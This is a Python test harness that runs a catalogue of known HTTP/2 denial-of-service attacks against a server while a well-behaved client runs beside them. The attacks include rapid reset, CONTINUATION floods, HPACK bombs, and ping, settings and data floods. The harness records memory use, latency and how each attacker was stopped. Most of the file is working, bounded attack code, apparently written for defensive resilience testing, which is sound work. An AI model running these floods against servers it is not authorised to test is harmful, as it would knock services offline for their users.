"""Known attacks on HTTP/2, each a bounded run on one connection or a few, beside a client that behaves.

    http2_attacks.py HOST PORT PATH CERTIFICATE PROCESS_ID [NAME…]

Prints one JSON document a line: {"attack", "ended", "mebibytes": {"before", "most", "after"}, "p99_ms": {"quiet",
"beside"}, "failed"}; `ended` says how the attacker was stopped, `failed` counts the behaving client's failures.
"""

import json
import os
import struct
import sys
import threading
import time

from raw_http2 import *  # noqa: F403  (the names of the protocol)
from raw_http2 import Broken, Connection, Target

SECONDS_MAX = 3
FRAMES_MAX = 20_000
ATTACKS = {}


def attack(function):
    ATTACKS[function.__name__.replace("_", "-")] = function
    return function


def verdict(connection, send, frames_max=FRAMES_MAX, wait_seconds=SECONDS_MAX):
    """Sends until stopped, and says by what."""
    deadline = time.monotonic() + SECONDS_MAX
    for number in range(frames_max):
        if connection.is_closed or time.monotonic() > deadline:
            break
        send(number)
        if number % 50 == 49:
            frame = connection.until(lambda frame: frame.kind == GOAWAY and frame.code != NO_ERROR, 0.001)
            if frame is not None:
                return f"GOAWAY {frame.code}"
    frame = connection.until(lambda frame: frame.kind == GOAWAY and frame.code != NO_ERROR, wait_seconds)
    if frame is not None:
        return f"GOAWAY {frame.code}"
    return "closed" if connection.is_closed else "not stopped"


@attack
def rapid_reset(target):
    """CVE-2023-44487."""
    with Connection(target).greeted() as connection:
        def send(number):
            connection.get(2 * number + 1)
            connection.frame(RST_STREAM, 0, 2 * number + 1, struct.pack(">I", CANCEL))
        return verdict(connection, send)


def _provoke(provocation):
    """CVE-2025-8671: the client breaks a rule so that the server resets, and no reset of the client is counted."""
    def run(target):
        with Connection(target).greeted() as connection:
            def send(number):
                provocation(connection, target, 2 * number + 1)
            return verdict(connection, send)
    return run


def _empty_window_update(connection, target, stream):
    connection.headers(stream, target.request("POST"), END_HEADERS)
    connection.frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))


def _window_overflow(connection, target, stream):
    connection.headers(stream, target.request("POST"), END_HEADERS)
    connection.frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0x7FFFFFFF))


def _length_mismatch(connection, target, stream):
    connection.headers(stream, target.request("POST", extra=[("content-length", "1")]), END_HEADERS)
    connection.frame(DATA, END_STREAM, stream, b"four")


def _forbidden_field(connection, target, stream):
    connection.headers(stream, target.request(extra=[("connection", "close")]))


def _wrong_priority(connection, target, stream):
    connection.get(stream)
    connection.frame(PRIORITY, 0, stream, b"\0\0\0\0")


for _name, _provocation in [
        ("made-you-reset-window-0", _empty_window_update), ("made-you-reset-overflow", _window_overflow),
        ("made-you-reset-length", _length_mismatch), ("made-you-reset-field", _forbidden_field),
        ("made-you-reset-priority", _wrong_priority)]:
    ATTACKS[_name] = _provoke(_provocation)


@attack
def continuation_flood(target):
    """CVE-2024-27316 and its like: a block without an end."""
    with Connection(target).greeted() as connection:
        connection.headers(1, target.request(), END_STREAM)
        return verdict(connection, lambda number: connection.frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 100))


def _bomb(block):
    """CVE-2026-47774: a few bytes stand for many fields, and windows of nothing keep every stream."""
    def run(target):
        with Connection(target, [(INITIAL_WINDOW_SIZE, 0)]).greeted() as connection:
            plain = connection.block(target.request())
            # A value of 3 KiB in the dynamic table, then one byte each time for all of it.
            connection.frame(HEADERS, END_STREAM | END_HEADERS, 1, plain + b"\x40\x03bom\x7f\x81\x17" + b"x" * 3072)

            def send(number):
                connection.frame(HEADERS, END_STREAM | END_HEADERS, 2 * number + 3, connection.block(
                    target.request()) + block)
            return verdict(connection, send, frames_max=500)
    return run


ATTACKS["bomb-of-indexed-fields"] = _bomb(b"\xbe" * 4000)
ATTACKS["bomb-of-cookie-crumbs"] = _bomb(b"\x60\x01c" + b"\xbe" * 4000)


@attack
def window_of_nothing(target):
    """Streams whose answers cannot leave."""
    with Connection(target, [(INITIAL_WINDOW_SIZE, 0)]).greeted() as connection:
        return verdict(connection, lambda number: connection.get(2 * number + 1), frames_max=2000)


@attack
def ping_flood(target):
    """CVE-2019-9512."""
    with Connection(target).greeted() as connection:
        return verdict(connection, lambda number: connection.frame(PING, 0, 0, b"12345678"))


@attack
def settings_flood(target):
    """CVE-2019-9515."""
    with Connection(target).greeted() as connection:
        return verdict(connection, lambda number: connection.settings([(MAX_CONCURRENT_STREAMS, number)]))


@attack
def priority_flood(target):
    """CVE-2019-9513."""
    with Connection(target).greeted() as connection:
        return verdict(connection, lambda number: connection.frame(PRIORITY, 0, 2 * number + 1, b"\0\0\0\0\x10"))


@attack
def window_update_flood(target):
    with Connection(target).greeted() as connection:
        connection.headers(1, target.request("POST"), END_HEADERS)
        return verdict(connection, lambda number: connection.frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))


@attack
def empty_data_flood(target):
    """CVE-2019-9518."""
    with Connection(target).greeted() as connection:
        connection.headers(1, target.request("POST"), END_HEADERS)
        return verdict(connection, lambda number: connection.frame(DATA, 0, 1, b""))


@attack
def tiny_data_flood(target):
    """CVE-2019-9511."""
    with Connection(target).greeted() as connection:
        connection.headers(1, target.request("POST"), END_HEADERS)

        def send(number):
            connection.frame(DATA, 0, 1, b"x")
        return verdict(connection, send)


@attack
def empty_headers_flood(target):
    """CVE-2019-9516: fields without a name or a value."""
    with Connection(target).greeted() as connection:
        def send(number):
            connection.frame(HEADERS, END_STREAM | END_HEADERS, 2 * number + 1,
                             connection.block(target.request()) + b"\x00\x00\x00" * 50)
        return verdict(connection, send, frames_max=2000)


@attack
def streams_without_end(target):
    """More streams than are allowed, again and again."""
    with Connection(target).greeted() as connection:
        def send(number):
            connection.headers(2 * number + 1, target.request("POST"), END_HEADERS)
        return verdict(connection, send, frames_max=3000)


def resident_mebibytes(process):
    with open(f"/proc/{process}/status", encoding="ascii") as status:
        return next(int(line.split()[1]) / 1024 for line in status if line.startswith("VmRSS:"))


class Behaving(threading.Thread):
    """One request after the other on a connection of its own."""

    def __init__(self, target):
        super().__init__(daemon=True)
        self._target, self._ended = target, threading.Event()
        self.seconds, self.failed = [], 0

    def run(self):
        connection, stream = None, 1
        while not self._ended.is_set():
            try:
                if connection is None:
                    connection, stream = Connection(self._target).greeted(), 1
                began = time.monotonic()
                connection.get(stream)
                if connection.answered(stream) != 200:
                    raise Broken("no 200")
                self.seconds.append(time.monotonic() - began)
                connection.heard.clear()
                stream += 2
                time.sleep(0.002)
            except (Broken, OSError):
                self.failed += 1
                connection = None

    def end(self):
        self._ended.set()
        self.join()
        ordered = sorted(self.seconds)
        return round(ordered[min(len(ordered) - 1, int(len(ordered) * 0.99))] * 1000, 2) if ordered else None


def measured(target, process, name, run):
    quiet = Behaving(target)
    quiet.start()
    time.sleep(0.3)
    quiet_p99 = quiet.end()
    before = most = resident_mebibytes(process)
    beside = Behaving(target)
    beside.start()
    result = {}
    attackers = [threading.Thread(target=lambda: result.setdefault("ended", run(target)), daemon=True) for _ in range(4)]
    for attacker in attackers:
        attacker.start()
    while any(attacker.is_alive() for attacker in attackers):
        most = max(most, resident_mebibytes(process))
        time.sleep(0.02)
    beside_p99 = beside.end()
    return {"attack": name, "ended": result.get("ended", "failed"),
            "mebibytes": {"before": round(before, 1), "most": round(most, 1),
                          "after": round(resident_mebibytes(process), 1)},
            "p99_ms": {"quiet": quiet_p99, "beside": beside_p99}, "failed": quiet.failed + beside.failed}


def main():
    host, port, path, certificate, process = sys.argv[1:6]
    target = Target(host, int(port), certificate=certificate, path=path)
    for name in sys.argv[6:] or ATTACKS:
        print(json.dumps(measured(target, int(process), name, ATTACKS[name])), flush=True)


if __name__ == "__main__":
    os.environ.pop("SSLKEYLOGFILE", None)
    main()
